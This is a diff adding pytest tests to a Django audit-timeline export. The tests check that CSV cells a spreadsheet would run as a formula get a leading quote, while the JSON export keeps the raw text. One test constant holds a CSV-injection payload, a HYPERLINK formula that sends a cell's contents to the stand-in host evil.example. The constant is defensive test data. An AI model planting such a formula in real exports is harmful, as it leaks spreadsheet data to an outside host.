@@ -11,9 +11,11 @@ from typing import Any
 import pytest
 from django.utils import timezone
 
+from binaries import timeline
 from binaries.models import BinaryEvent
 from peridio_console.accounts.models import AuditEvent
 from tests.api_helpers import error_of
+from tests.console_helpers import verified_binary
 from tests.factories import BinaryFactory
 from tests.signing_helpers import (
     attach,
@@ -415,6 +417,47 @@ def test_it_exports_an_empty_view_well_formed(admin_api, history):
     assert text.strip() == (
         "id,at,action,object_prn,actor,actor_api_key,from_state,to_state,reason,ip,details"
     )
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+
+
+def test_it_exports_a_reason_that_looks_like_a_formula_as_text(admin_api, engineer_api, version):
+    """OWASP's CSV-injection rule: a cell a spreadsheet would run as a formula gets a leading
+    quote, the text kept; the JSON export carries the reason as it was given."""
+    binary = verified_binary("signable", version)
+    response = engineer_api.patch(
+        f"/binaries/{binary.prn}", {"state": "uploadable", "reason": FORMULA}
+    )
+    assert response.status_code == 200, response.content
+
+    _, rows = _exported(admin_api, "csv", action="binary.uploadable")
+    _, entries = _exported(admin_api, "json", action="binary.uploadable")
+
+    assert [row["reason"] for row in rows] == ["'" + FORMULA]
+    assert [entry["reason"] for entry in entries] == [FORMULA]
+
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
+def test_it_neutralises_every_cell_a_spreadsheet_would_read_as_a_formula(lead):
+    entry: dict[str, Any] = {c: f"{lead}1+1 in {c}" for c in timeline.EXPORT_COLUMNS}
+    entry["details"] = {}
+    text = "".join(timeline.csv_rows(iter([entry])))
+
+    row = next(csv.DictReader(io.StringIO(text, newline="")))
+
+    assert row == {**{c: f"'{lead}1+1 in {c}" for c in timeline.EXPORT_COLUMNS}, "details": "{}"}
+
+
+def test_it_leaves_cells_that_only_contain_formula_characters_as_they_are():
+    entry: dict[str, Any] = {c: f"a=b+c-d@e\tf in {c}" for c in timeline.EXPORT_COLUMNS}
+    entry["details"] = {"note": "=1+1"}  # a JSON object: its first character is "{"
+    text = "".join(timeline.csv_rows(iter([entry])))
+
+    row = next(csv.DictReader(io.StringIO(text, newline="")))
+
+    assert row["reason"] == "a=b+c-d@e\tf in reason"
+    assert json.loads(row["details"]) == {"note": "=1+1"}
 
 
 def test_it_exports_past_one_page_of_the_timeline(admin_api, crowded, org):
